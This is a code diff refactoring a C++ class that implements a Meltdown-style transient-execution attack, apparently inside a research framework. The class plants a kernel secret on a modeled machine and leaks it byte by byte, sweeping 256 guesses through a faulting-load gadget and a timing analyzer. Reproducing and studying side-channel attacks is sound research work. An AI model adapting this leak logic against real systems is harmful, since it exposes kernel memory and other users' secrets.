@@ -3,48 +3,27 @@
 namespace whisper::core {
 
 TetMeltdown::TetMeltdown(os::Machine& m, Options opt)
-    : Attack(m, "md", opt),
+    : ChannelAttack(m, "md", opt, Polarity::Max, /*default_batches=*/6),
       // Classic Meltdown suppresses the fault with a signal handler; TSX is
       // an opt-in acceleration (the paper's transient_begin offers both).
-      window_(opt.window.value_or(WindowKind::Signal)),
-      gadget_(make_tet_gadget({.window = window_,
-                               .source = SecretSource::FaultingLoad})) {}
+      gadget_(make_tet_gadget(
+          {.window = opt.window.value_or(WindowKind::Signal),
+           .source = SecretSource::FaultingLoad})) {}
 
-std::uint8_t TetMeltdown::leak_byte_into(std::uint64_t kvaddr,
-                                         AttackResult& r) {
-  analyzer_.reset();
+void TetMeltdown::sweep(std::uint64_t kvaddr, int /*batch*/, AttackResult& r) {
   std::array<std::uint64_t, isa::kNumRegs> regs{};
   regs[static_cast<std::size_t>(isa::Reg::RCX)] = kvaddr;
-
-  return decode_adaptive(r, analyzer_, kDefaultBatches, [&] {
-    for (int tv = 0; tv <= 255; ++tv) {
-      regs[static_cast<std::size_t>(isa::Reg::RBX)] =
-          static_cast<std::uint64_t>(tv);
-      analyzer_.add(tv, run_tote(m_, gadget_, regs));
-      ++r.probes;
-    }
-  });
+  for (int tv = 0; tv <= 255; ++tv) {
+    regs[static_cast<std::size_t>(isa::Reg::RBX)] =
+        static_cast<std::uint64_t>(tv);
+    analyzer_.add(tv, run_tote(m_, gadget_, regs));
+    ++r.probes;
+  }
 }
 
 void TetMeltdown::execute(std::span<const std::uint8_t> payload,
                           AttackResult& r) {
-  const std::uint64_t kvaddr = m_.plant_kernel_secret(payload);
-  r.bytes.reserve(payload.size());
-  for (std::size_t i = 0; i < payload.size(); ++i)
-    r.bytes.push_back(leak_byte_into(kvaddr + i, r));
-}
-
-std::uint8_t TetMeltdown::leak_byte(std::uint64_t kvaddr) {
-  AttackResult scratch;
-  return leak_byte_into(kvaddr, scratch);
-}
-
-std::vector<std::uint8_t> TetMeltdown::leak(std::uint64_t kvaddr,
-                                            std::size_t len) {
-  std::vector<std::uint8_t> out;
-  out.reserve(len);
-  for (std::size_t i = 0; i < len; ++i) out.push_back(leak_byte(kvaddr + i));
-  return out;
+  decode_bytes(m_.plant_kernel_secret(payload), payload.size(), r);
 }
 
 }  // namespace whisper::core
